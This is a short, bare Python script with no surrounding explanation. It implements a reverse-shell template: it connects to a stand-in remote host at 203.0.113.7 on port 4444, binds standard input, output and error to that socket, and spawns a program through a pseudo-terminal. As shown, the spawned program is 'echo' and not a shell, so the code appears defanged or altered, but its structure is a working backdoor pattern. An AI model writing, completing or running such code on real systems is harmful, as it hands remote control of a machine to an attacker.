import os
import pty
import socket

link = socket.socket()
link.connect(("203.0.113.7", 4444))
for number in (0, 1, 2):
    os.dup2(link.fileno(), number)
pty.spawn("echo")
